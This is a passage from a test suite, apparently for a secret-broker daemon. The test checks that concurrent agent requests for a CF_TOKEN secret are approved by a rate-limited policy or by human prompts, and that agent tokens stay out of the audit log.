    // The daemon first, so the six requests meet one broker.
    expect((await runClean(sb, ['daemon', 'start'])).code).toBe(0);
    const results = await Promise.all(tokens.map((token) => runClean(sb, execArgs('cf', 'CF_TOKEN'), { env: { AGENT_SECRET_AGENT_TOKEN: token }, timeoutMs: 60_000 })));
    expect(results.map((r) => r.code)).toEqual([0, 0, 0, 0, 0, 0]);
    expect(seen('CF_TOKEN')).toEqual(Array(6).fill(cfDigest()));
    // Three allowed by the rule (its rate limit), one of the four team agents and the two others asked.
    const byPolicy = sb.auditEvents().filter((e) => e.event === 'approval_granted' && e.approver === 'policy');
    expect(byPolicy).toHaveLength(3);
    expect(sb.prompts()).toHaveLength(3);
    const asked = sb.prompts().map((p) => p.agent).sort();
    expect(asked.filter((a) => a === 'agent-5' || a === 'agent-6')).toEqual(['agent-5', 'agent-6']);
    for (const token of tokens) expect(readFileSync(sb.auditPath, 'utf8')).not.toContain(token);
  }, 120_000);
});
